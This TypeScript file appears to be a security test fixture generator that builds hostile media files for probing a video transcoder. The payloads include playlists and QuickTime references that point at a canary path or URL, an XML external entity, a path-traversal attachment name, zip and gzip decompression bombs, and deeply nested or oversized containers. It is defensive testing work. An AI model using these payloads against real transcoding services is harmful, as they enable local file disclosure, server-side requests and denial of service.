// Files that try to make a transcoder open other files, or to exhaust it. None of them is a video.
import { randomBytes } from 'node:crypto'
import { deflateRawSync, gzipSync } from 'node:zlib'

export type Hostile = { name: string; bytes: Buffer }
type Bait = { canary: string; url: string; clip: Buffer; huge: Buffer }

const atom = (type: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(8 + body.length)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}
const ftyp = atom('ftyp', Buffer.from('isom\x00\x00\x02\x00isomiso2mp41', 'latin1'))
const u32 = (...values: number[]) => {
  const bytes = Buffer.alloc(4 * values.length)
  values.forEach((value, index) => bytes.writeUInt32BE(value >>> 0, 4 * index))
  return bytes
}
/** Overwrites the bytes at `offset` after each `type` in a copy. */
function patch(clip: Buffer, type: string, offset: number, value: Buffer): Buffer {
  const copy = Buffer.from(clip)
  let count = 0
  for (let at = copy.indexOf(type); at >= 0; at = copy.indexOf(type, at + 4)) {
    value.copy(copy, at + offset)
    count++
  }
  if (count === 0) throw new Error(`the clip has no ${type}`)
  return copy
}

const ebml = (id: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content)
  const size = Buffer.alloc(8)
  size.writeBigUInt64BE(BigInt(body.length) | (1n << 56n))
  return Buffer.concat([Buffer.from(id, 'hex'), size, body])
}
const matroska = ebml('1a45dfa3', ebml('4282', Buffer.from('matroska')))

const containers = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf'])

/** The film with every data reference replaced. Its own samples are zeros, so it can only play referenced files. */
function external(clip: Buffer, reference: Buffer): Buffer {
  const atoms: Buffer[] = []
  for (let at = 0; at + 8 <= clip.length;) {
    const size = clip.readUInt32BE(at)
    if (size < 8) throw new Error('the clip has atoms of another form')
    const type = clip.toString('latin1', at + 4, at + 8)
    const body = clip.subarray(at + 8, at + size)
    if (type === 'dref') atoms.push(atom(type, u32(0, 1), reference))
    else if (type === 'mdat') atoms.push(atom(type, Buffer.alloc(body.length)))
    else atoms.push(atom(type, containers.has(type) ? external(body, reference) : body))
    at += size
  }
  return Buffer.concat(atoms)
}

/** QuickTime's alias record: 150 bytes about a volume, then the absolute path as an item of type 2. */
function alias(path: string): Buffer {
  const record = Buffer.alloc(150)
  const item = Buffer.alloc(4)
  item.writeUInt16BE(2, 0)
  item.writeUInt16BE(path.length, 2)
  return atom('alis', u32(0), record, item, Buffer.from(path), Buffer.from('ffff0000', 'hex'))
}

function nested(depth: number): Buffer {
  let inner = atom('free')
  for (let level = 0; level < depth; level++) inner = atom(level % 2 ? 'moov' : 'trak', inner)
  return inner
}

function zip(content: Buffer): Buffer {
  const packed = deflateRawSync(content)
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(content.length, 22)
  head.writeUInt16LE(5, 26)
  return Buffer.concat([head, Buffer.from('a.mp4'), packed])
}

function absurdAvi(): Buffer {
  const header = Buffer.alloc(56)
  for (let at = 0; at < header.length; at += 4) header.writeUInt32LE(0xffffffff, at)
  const chunk = (type: string, body: Buffer, size = 0xfffffff0) => {
    const head = Buffer.alloc(8)
    head.write(type, 'latin1')
    head.writeUInt32LE(size, 4)
    return Buffer.concat([head, body])
  }
  const list = chunk('LIST', Buffer.concat([Buffer.from('hdrl'), chunk('avih', header)]))
  return chunk('RIFF', Buffer.concat([Buffer.from('AVI '), list, chunk('strh', header), randomBytes(512)]))
}

const hls = (address: string) =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${address}\n#EXT-X-ENDLIST\n`.padEnd(400, '\n')

export function hostileFiles({ canary, url, clip, huge }: Bait): Hostile[] {
  const moovAt = clip.indexOf('moov') - 4
  if (moovAt < 0) throw new Error('the clip has no moov')
  const linked = ebml('3eb923', randomBytes(16))
  const file = (name: string, content: string | Buffer) => ({ name, bytes: Buffer.from(content) })
  return [
    file('hls-file.mp4', hls(`file://${canary}`)),
    file('hls-http.mp4', hls(`${url}/segment.ts`)),
    file('ffconcat.mp4', `ffconcat version 1.0\nfile '${canary}'\n`),
    file('concat.mkv', `file '${canary}'\nfile '${url}/b.mp4'\n`),
    file('dref-url.mov', external(clip, atom('url ', u32(0), Buffer.from(`file://${canary}\x00`)))),
    file('dref-alias.mov', external(clip, alias(canary))),
    file('dash.mp4', `<?xml version="1.0"?><MPD><BaseURL>${url}/</BaseURL></MPD>`),
    file('entity.mp4', `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://${canary}">]><a>&b;</a>`),
    file('image.svg.mp4', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/a.png"/></svg>`),
    file('session.mp4', `v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n`),
    file('list.avi', `[playlist]\nFile1=${url}/a.mp4\nFile2=${canary}\n`),
    file('data.mp4', hls('data:video/mp4;base64,AAAAGGZ0eXA=')),
    file('subfile.mp4', hls(`subfile,,start,0,end,9,,:${canary}`)),
    file('linked.mkv', Buffer.concat([matroska, ebml('18538067', ebml('1549a966', linked))])),
    file('attachment.mkv', attachmentOnly(canary)),
    file('sizes.avi', absurdAvi()),
    file('bomb.zip.mp4', zip(Buffer.alloc(64 * 2 ** 20))),
    file('bomb.gz.mkv', gzipSync(Buffer.alloc(64 * 2 ** 20))),
    file(
      'image.mp4',
      Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), randomBytes(200)]),
    ),
    file('huge-frames.mp4', huge),
    file(
      'tracks.mp4',
      Buffer.concat([ftyp, atom('moov', ...Array.from({ length: 10_000 }, () => nested(1)))]),
    ),
    file('endless.mp4', patch(clip, 'mvhd', 16, u32(1, 0xfffffff0))),
    file('truncated-moov.mp4', clip.subarray(0, moovAt + 60)),
    file('nested.mp4', Buffer.concat([ftyp, nested(4_000)])),
  ]
}

function attachmentOnly(canary: string): Buffer {
  const attached = ebml(
    '61a7',
    ebml('466e', Buffer.from(`../../../..${canary}`)),
    ebml('4660', Buffer.from('application/x-truetype-font')),
    ebml('465c', randomBytes(64)),
  )
  const track = ebml(
    'ae',
    ebml('d7', Buffer.from([1])),
    ebml('83', Buffer.from([0x11])),
    ebml('86', Buffer.from('S_TEXT/ASS')),
  )
  return Buffer.concat([matroska, ebml('18538067', ebml('1654ae6b', track), ebml('1941a469', attached))])
}
